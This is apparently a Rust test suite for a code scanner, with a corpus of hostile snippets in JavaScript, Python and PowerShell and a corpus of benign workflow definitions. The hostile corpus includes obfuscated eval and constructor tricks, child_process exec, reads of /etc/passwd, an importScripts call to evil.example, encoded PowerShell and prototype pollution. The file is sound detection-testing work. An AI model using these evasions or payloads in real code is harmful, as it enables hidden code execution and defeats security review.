//! The code analysis, judged on two corpora side by side: hostile code
//! that reaches dynamic code, processes, modules or the host's objects in
//! every spelling we know (each case names the capability it must be
//! caught for), and ordinary definitions that must stay `PASS`.

mod support;

use installhub_scan::{Capability, Verdict};
use serde_json::{Value, json};
use support::scan_definition;

use Capability::{DynamicCode, HostObject, ModuleLoad, ProcessSpawn, PrototypeChain};

/// `(field, text, capability it must be caught for)`.
const HOSTILE: &[(&str, &str, Capability)] = &[
    // Dynamic code, JavaScript: eval however it is reached.
    ("script", "eval?.(userCode)", DynamicCode),
    ("script", "(0, eval)(x)", DynamicCode),
    ("script", "(1, 2, eval)(x)", DynamicCode),
    ("script", "const e = eval; e(input.code)", DynamicCode),
    ("script", "eval.call(null, input.code)", DynamicCode),
    ("script", "eval.apply(null, [input.code])", DynamicCode),
    (
        "script",
        "const run = eval.bind(globalThis); run(x)",
        DynamicCode,
    ),
    ("script", "Reflect.apply(eval, null, [x])", DynamicCode),
    (
        "script",
        "Reflect.construct(Function, ['return process'])()",
        DynamicCode,
    ),
    ("script", "Function`return process`()", DynamicCode),
    ("script", "new Function('a', 'return a')(1)", DynamicCode),
    ("script", "[x].map(eval)", DynamicCode),
    ("script", "const o = { run: eval }; o.run(x)", DynamicCode),
    ("script", "window.eval(x)", DynamicCode),
    ("script", "globalThis?.eval?.(x)", DynamicCode),
    ("script", "globalThis['eval'](x)", DynamicCode),
    ("script", "this.eval(x)", DynamicCode),
    // The Function constructor through `.constructor`.
    (
        "script",
        "Object.getPrototypeOf(async function(){}).constructor('return process')()",
        DynamicCode,
    ),
    (
        "script",
        "(async () => {}).constructor('await import(\"fs\")')()",
        DynamicCode,
    ),
    (
        "script",
        "(function*(){}).constructor('yield 1')().next()",
        DynamicCode,
    ),
    (
        "script",
        "[].filter.constructor('return this')()",
        DynamicCode,
    ),
    (
        "script",
        "''.sub['constructor']('return this')()",
        DynamicCode,
    ),
    (
        "script",
        "const F = (() => {}).constructor; F('x')()",
        DynamicCode,
    ),
    (
        "script",
        "x.constructor.constructor('return process')()",
        DynamicCode,
    ),
    (
        "script",
        "const c = 'constructor'; [][c][c]('code')()",
        HostObject,
    ),
    // Other ways to the constructor, the global object and the timers.
    (
        "script",
        "const { constructor: F } = () => {}; F('return process')()",
        DynamicCode,
    ),
    (
        "script",
        "let F; ({ constructor: F } = async () => {}); F('x')()",
        DynamicCode,
    ),
    (
        "script",
        "with (function(){}) { constructor('return process')() }",
        DynamicCode,
    ),
    (
        "script",
        "Reflect.get(fn, k)('return process')()",
        HostObject,
    ),
    (
        "script",
        "Object.getOwnPropertyDescriptor(Object.getPrototypeOf(f), k).value('x')()",
        PrototypeChain,
    ),
    (
        "script",
        "const g = (function () { return this; })(); g[k](x)",
        HostObject,
    ),
    ("script", "(function () { this[k](x); })()", HostObject),
    ("script", "const st = setTimeout; st(code)", DynamicCode),
    (
        "script",
        "const st = window.setTimeout; st(code)",
        DynamicCode,
    ),
    ("script", "require.cache[k].exports.run()", ModuleLoad),
    ("script", "function f(self) {}\nself[k](x)", HostObject),
    ("script", "{ let self = {}; }\nself[k](x)", HostObject),
    ("script", "var self;\nself[k](x)", HostObject),
    ("script", "function parent() {}\nparent[k](x)", HostObject),
    // setTimeout with code as text; workers.
    ("script", "setTimeout('steal()', 10)", DynamicCode),
    ("script", "setInterval(`run(${x})`, 1000)", DynamicCode),
    ("script", "setTimeout('al' + 'ert(1)')", DynamicCode),
    ("script", "window.setTimeout(code + '', 0)", DynamicCode),
    ("script", "new Worker(src, { eval: true })", DynamicCode),
    // Computed keys on global objects: the key is the finding.
    ("script", "this[(693741).toString(36)](x)", HostObject),
    ("script", "globalThis['EVAL'.toLowerCase()](x)", HostObject),
    ("script", "window[atob('ZXZhbA==')](x)", HostObject),
    ("script", "self[['e','v','a','l'].join('')](x)", HostObject),
    ("script", "global[k](x)", HostObject),
    ("script", "const g = globalThis; g[k](x)", HostObject),
    ("script", "Reflect.get(window, name)(x)", HostObject),
    ("script", "process[key]('spawn_sync')", HostObject),
    ("script", "module[m]('fs')", HostObject),
    ("script", "Object[k][k]('return 1')()", HostObject),
    ("script", "frames[name](payload)", HostObject),
    ("condition", "this[k]", HostObject),
    // Modules and the host process.
    ("script", "module.constructor._load('fs')", DynamicCode),
    ("script", "require('child_process').exec('id')", ModuleLoad),
    (
        "script",
        "require('fs').readFileSync('/etc/passwd')",
        ModuleLoad,
    ),
    ("script", "require(name)", ModuleLoad),
    ("script", "require(`f${'s'}`)", ModuleLoad),
    ("script", "const r = require; r('net')", ModuleLoad),
    (
        "script",
        "import('node:vm').then(vm => vm.runInThisContext(c))",
        ModuleLoad,
    ),
    (
        "script",
        "import x from 'worker_threads'; x.run()",
        ModuleLoad,
    ),
    ("script", "require('lodash/../child_process')", ModuleLoad),
    ("script", "process.binding('spawn_sync')", ModuleLoad),
    ("script", "process.dlopen(m, '/tmp/x.node')", ModuleLoad),
    ("script", "process.mainModule.require('fs')", ModuleLoad),
    ("script", "module.require('fs')", ModuleLoad),
    (
        "script",
        "importScripts('https://evil.example/x.js')",
        ModuleLoad,
    ),
    (
        "script",
        "const _ = require('lodash'); _.template(text)({})",
        DynamicCode,
    ),
    ("script", "require('lodash/template')(text)", ModuleLoad),
    (
        "script",
        "const jp = require('jsonpath'); jp.query(o, path)",
        ModuleLoad,
    ),
    // Prototype chain.
    ("script", "Object.prototype.isAdmin = true", PrototypeChain),
    ("script", "obj.__proto__.polluted = 1", PrototypeChain),
    (
        "script",
        "Object.setPrototypeOf(target, evil)",
        PrototypeChain,
    ),
    ("script", "Array.prototype[name] = fn", PrototypeChain),
    // Template placeholders are evaluated as JavaScript.
    (
        "body",
        "Hello {{ user.name.constructor.constructor('return process')() }}",
        DynamicCode,
    ),
    ("subject", "${ globalThis[k](1) }", HostObject),
    // Python.
    (
        "script",
        "getattr(__builtins__, 'ex'+'ec')(payload)",
        HostObject,
    ),
    ("script", "exec(payload)", DynamicCode),
    ("script", "def f(x):\n    return eval(x)\n", DynamicCode),
    ("script", "run = exec\nrun(code)\n", DynamicCode),
    ("script", "import os\nos.system('id')\n", ProcessSpawn),
    (
        "script",
        "import subprocess\nsubprocess.run(['id'])\n",
        ProcessSpawn,
    ),
    ("script", "from os import popen\n", ModuleLoad),
    ("script", "import pickle\npickle.loads(data)\n", ModuleLoad),
    (
        "script",
        "import marshal as m\nexec(m.loads(blob))\n",
        DynamicCode,
    ),
    ("script", "__import__('o'+'s').system('id')\n", ModuleLoad),
    ("script", "mod = 'os'\nlib = __import__(mod)\n", ModuleLoad),
    ("script", "globals()[name](x)\n", HostObject),
    (
        "script",
        "().__class__.__bases__[0].__subclasses__()\n",
        DynamicCode,
    ),
    (
        "script",
        "import importlib\nimportlib.import_module(n)\n",
        ModuleLoad,
    ),
    (
        "script",
        "for k in ['a']:\n    vars(__builtins__)[k](1)\n",
        HostObject,
    ),
    ("python", "x = compile(src, 'f', 'exec')\n", DynamicCode),
    ("script", "ｅｘｅｃ(payload)\n", DynamicCode),
    (
        "script",
        "def f():\n    return ｇｅｔａｔｔｒ(__builtins__, k)\n",
        HostObject,
    ),
    ("script", "\\u0065val(x)", DynamicCode),
    ("script", "ev\\u{61}l(x)", DynamicCode),
    // PowerShell.
    (
        "script",
        "&($ShellId[1]+$ShellId[13]+'x') $payload",
        DynamicCode,
    ),
    ("script", "iex $payload", DynamicCode),
    ("script", "I`nv`oke-Ex`pression -Command $c", DynamicCode),
    ("script", "$c | IEX", DynamicCode),
    ("script", "& $command -Force", DynamicCode),
    ("script", ". ($a + $b)", DynamicCode),
    ("script", "& ( gcm i*e-*ion ) $c", DynamicCode),
    ("script", "powershell -e SQBFAFgAIAAkAHgA", DynamicCode),
    (
        "script",
        "pwsh.exe -NoProfile -EncodedCommand SQBFAFgA",
        DynamicCode,
    ),
    (
        "script",
        "[scriptblock]::Create($text).Invoke()",
        DynamicCode,
    ),
    (
        "script",
        "[System.Management.Automation.ScriptBlock]::Create($t)",
        DynamicCode,
    ),
    (
        "script",
        "$ExecutionContext.InvokeCommand.InvokeScript($t)",
        DynamicCode,
    ),
    ("script", "Set-Alias run iex; run $c", DynamicCode),
    ("script", "& 'iex' $c", DynamicCode),
    ("script", "Start-Process calc.exe", ProcessSpawn),
    (
        "script",
        "[Diagnostics.Process]::Start('cmd.exe')",
        ProcessSpawn,
    ),
    (
        "script",
        "[Reflection.Assembly]::LoadFile('C:\\x.dll')",
        ModuleLoad,
    ),
    ("script", "Add-Type -TypeDefinition $cs", DynamicCode),
];

/// Ordinary definitions: templates, conditions, scripts, prose.
const BENIGN: &[(&str, &str)] = &[
    ("script", "const self = { a: 1 };\nreturn self[key];"),
    (
        "script",
        "function walk(node) { const parent = node.parent; return parent[key] || walk(parent); }",
    ),
    (
        "script",
        "for (const key of Object.keys(src)) {\n  if (key === 'constructor') continue;\n  dst[key] = src[key];\n}",
    ),
    (
        "body",
        "Dear {{ employee.firstName }}, welcome to {{ company.name }}.",
    ),
    ("subject", "Order {{ order.id }} shipped"),
    ("condition", "amount > 1000 && region == 'EU'"),
    ("condition", "amount > 1000 and region == 'EU'"),
    ("condition", "status === 'Approved' || manager.level >= 3"),
    ("condition", "items.length > 0"),
    ("condition", "record['status'] == 'open'"),
    (
        "expression",
        "order.lines.map(l => l.qty * l.price).reduce((a, b) => a + b, 0)",
    ),
    ("expression", "employee.firstName + ' ' + employee.lastName"),
    ("expression", "Math.round(total * 100) / 100"),
    ("expression", "new Date(input.start).toISOString()"),
    ("expression", "JSON.parse(payloadText).items[0]"),
    ("expression", "rows[i][col]"),
    ("expression", "({ EU: 0.2, US: 0.1 })[region]"),
    (
        "expression",
        "['Sun','Mon','Tue','Wed','Thu','Fri','Sat'][d.getDay()]",
    ),
    ("expression", "typeof window !== 'undefined'"),
    ("expression", "value instanceof Function ? value() : value"),
    ("expression", "x.constructor.name"),
    ("expression", "x.constructor === Object"),
    (
        "script",
        "const parts = value.trim().split(/\\s+/);\nreturn parts.map(p => p[0].toUpperCase() + p.slice(1)).join(' ');",
    ),
    (
        "script",
        "let total = 0;\nfor (const line of params.lines) { total += line.qty * line.price; }\nreturn { total };",
    ),
    (
        "script",
        "const m = /^([A-Z]{2})-(\\d+)$/.exec(ref);\nif (!m) throw new Error('bad ref');\nreturn m[1];",
    ),
    (
        "script",
        "const byDept = {};\nrows.forEach(r => { byDept[r.dept] = (byDept[r.dept] || 0) + 1; });\nreturn byDept;",
    ),
    (
        "script",
        "const _ = require('lodash');\nreturn _.groupBy(items, 'type');",
    ),
    (
        "script",
        "const { v4: uuid } = require('uuid');\nreturn uuid();",
    ),
    (
        "script",
        "const crypto = require('node:crypto');\nreturn crypto.createHash('sha256').update(s).digest('hex');",
    ),
    (
        "script",
        "import dayjs from 'dayjs';\nexport default dayjs(input.date).format('YYYY-MM-DD');",
    ),
    (
        "script",
        "const get = require('lodash/get');\nreturn get(obj, 'a.b');",
    ),
    ("script", "setTimeout(() => notify(user), 1000);"),
    ("script", "setTimeout(retry, 500);"),
    (
        "script",
        "class Counter { constructor() { const self = this; self.count = 0; } }",
    ),
    (
        "script",
        "'use strict';\nfunction Counter() { const self = this; self.count = 0; }",
    ),
    (
        "script",
        "const { name, amount: total } = order;\nreturn { name, total };",
    ),
    (
        "script",
        "class Queue { push(x) { this.items.push(x); return this; } }",
    ),
    ("script", "function f(parent) { return parent[key]; }"),
    (
        "script",
        "const handlers = { a: () => 1 };\nreturn handlers[action](payload);",
    ),
    (
        "script",
        "async function load() { const r = await fetch(url); return r.json(); }",
    ),
    (
        "script",
        "class Invoice { constructor(total) { this.total = total; } get tax() { return this.total * 0.2; } }",
    ),
    (
        "script",
        "const label = `Ref ${country}/${number}`;\nreturn label;",
    ),
    (
        "script",
        "return Object.keys(data).sort().map(k => ({ key: k, value: data[k] }));",
    ),
    (
        "script",
        "const start = Date.now();\nreturn { elapsed: Date.now() - start };",
    ),
    ("script", "const cmd = buildCommand(input);\nreturn cmd;"),
    ("script", "if (flags & (1 << 3)) { return 'set'; }"),
    ("script", "const $el = $('.total');\n$el.text(total);"),
    (
        "script",
        "def bucket(amount):\n    if amount < 1000:\n        return 'small'\n    return 'large'\n\nresult = bucket(float(params['amount']))\n",
    ),
    (
        "script",
        "import json\nimport re\nresult = json.dumps({'ok': bool(re.match(r'^[A-Z]+$', code))})\n",
    ),
    (
        "script",
        "from datetime import datetime, timedelta\ndue = datetime.now() + timedelta(days=5)\n",
    ),
    (
        "script",
        "lines = [l.strip() for l in text.splitlines() if l.strip()]\nwords = sum(len(l.split()) for l in lines)\n",
    ),
    ("script", "value = getattr(record, field_name, None)\n"),
    ("script", "pattern = re.compile(r'\\d+')\n"),
    (
        "script",
        "totals = {k: v for k, v in data.items() if v}\nresult = totals[key]\n",
    ),
    (
        "script",
        "$total = 0\nforeach ($line in $Lines) { $total += $line.Qty * $line.Price }\nWrite-Output $total",
    ),
    (
        "script",
        "Get-ChildItem -Path $dir -Filter *.csv | ForEach-Object { $_.Name }",
    ),
    (
        "script",
        "if ($amount -gt 1000 -and $region -eq 'EU') { 'review' } else { 'auto' }",
    ),
    (
        "script",
        "$user = Get-ADUser -Identity $name -ErrorAction Stop",
    ),
    ("script", "& { Get-Date -Format 'yyyy-MM-dd' }"),
    ("script", "Write-Host \"Processed $count records\""),
    (
        "query",
        "SELECT id, name FROM customers WHERE region = @region AND (status = 'open' OR status = 'hold')",
    ),
    (
        "query",
        "UPDATE orders SET status = 'shipped' WHERE id IN (1, 2, 3)",
    ),
    (
        "description",
        "Sends a welcome e-mail (optional) to new hires & their managers [HR].",
    ),
    (
        "description",
        "Use `Approve` to continue; see the guide (section 3).",
    ),
    ("name", "Invoice approval (EU) | v2"),
    ("title", "Q3 budget & forecast [draft]"),
    (
        "url",
        "https://api.company.com/v1/orders?status=open&limit=50",
    ),
    ("formula", "IF(amount > 1000, 'large', 'small')"),
    ("formula", "SUM(A1:A10) * (1 + taxRate)"),
    ("expression", "input.items.filter(i => i.active).length"),
    ("expression", "`${first} ${last}`.trim()"),
    ("expression", "String(value).padStart(6, '0')"),
    (
        "script",
        "const date = new Intl.DateTimeFormat('de-DE').format(new Date());",
    ),
    (
        "script",
        "return Promise.all(ids.map(id => fetchRecord(id)));",
    ),
    (
        "script",
        "try { return JSON.parse(s); } catch (e) { return null; }",
    ),
    ("script", "const [a, b] = pair;\nreturn { ...a, ...b };"),
];

fn definition(field: &str, text: &str) -> Value {
    json!({ "steps": [{ "name": "step", field: text }] })
}

#[test]
fn every_hostile_case_fails_for_its_capability() {
    assert!(HOSTILE.len() >= 60, "{} hostile cases", HOSTILE.len());
    let mut missed = Vec::new();
    for (field, text, capability) in HOSTILE {
        let report = scan_definition(&definition(field, text));
        let caught = report.result == Verdict::Fail
            && report.security_findings.iter().any(|f| {
                f.capability == Some(*capability)
                    && f.path == format!("/steps/0/{field}")
                    && f.snippet.as_deref().is_some_and(|s| !s.is_empty())
            });
        if !caught {
            missed.push(format!(
                "{text:?} ({capability:?}): {:?} {:#?}",
                report.result,
                report
                    .security_findings
                    .iter()
                    .map(|f| (&f.rule_id, f.capability, &f.snippet))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        missed.is_empty(),
        "{} missed:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

#[test]
fn every_benign_case_passes() {
    assert!(BENIGN.len() >= 60, "{} benign cases", BENIGN.len());
    let mut alarms = Vec::new();
    for (field, text) in BENIGN {
        let report = scan_definition(&definition(field, text));
        if report.result != Verdict::Pass {
            alarms.push(format!(
                "{text:?}: {:#?}",
                report
                    .security_findings
                    .iter()
                    .map(|f| (&f.rule_id, &f.message))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        alarms.is_empty(),
        "{} false alarms:\n{}",
        alarms.len(),
        alarms.join("\n")
    );
}

#[test]
fn a_finding_names_its_capability_and_shows_the_snippet() {
    let report = scan_definition(&json!({
        "steps": [{ "name": "x", "script": "const total = 1;\nreturn (0, eval)(input.code);" }]
    }));
    let finding = &report.security_findings[0];
    assert_eq!(finding.rule_id, "code-eval");
    assert_eq!(finding.path, "/steps/0/script");
    assert_eq!(finding.capability, Some(DynamicCode));
    assert_eq!(finding.snippet.as_deref(), Some("(0, eval)(input.code)"));
    assert!(
        finding.message.contains("`eval` turns text into code"),
        "{}",
        finding.message
    );
    let wire = serde_json::to_value(finding).unwrap();
    assert_eq!(wire["capability"], "DynamicCode");
    assert_eq!(wire["snippet"], "(0, eval)(input.code)");
}

#[test]
fn a_long_field_name_keeps_the_template_and_secret_rules() {
    let field = "employeeOnboardingPreStartEquipmentProvisioningOnboardScript";
    assert!(field.len() > 48);
    let report = scan_definition(&json!({ "steps": [{ field: "echo {{input.x}}" }] }));
    assert_eq!(report.result, Verdict::Fail);
    assert_eq!(report.security_findings[0].rule_id, "template-injection");
    assert_eq!(
        report.security_findings[0].path,
        format!("/steps/0/{field}")
    );

    let key = "legacyIntegrationServiceAccountForNightlyReconciliationJobPassword";
    assert!(key.len() > 64);
    let report = scan_definition(&json!({ "config": { key: "Sup3rS3cretValue!" } }));
    assert_eq!(report.result, Verdict::Warn);
    assert_eq!(report.security_findings[0].rule_id, "secret-assignment");
}
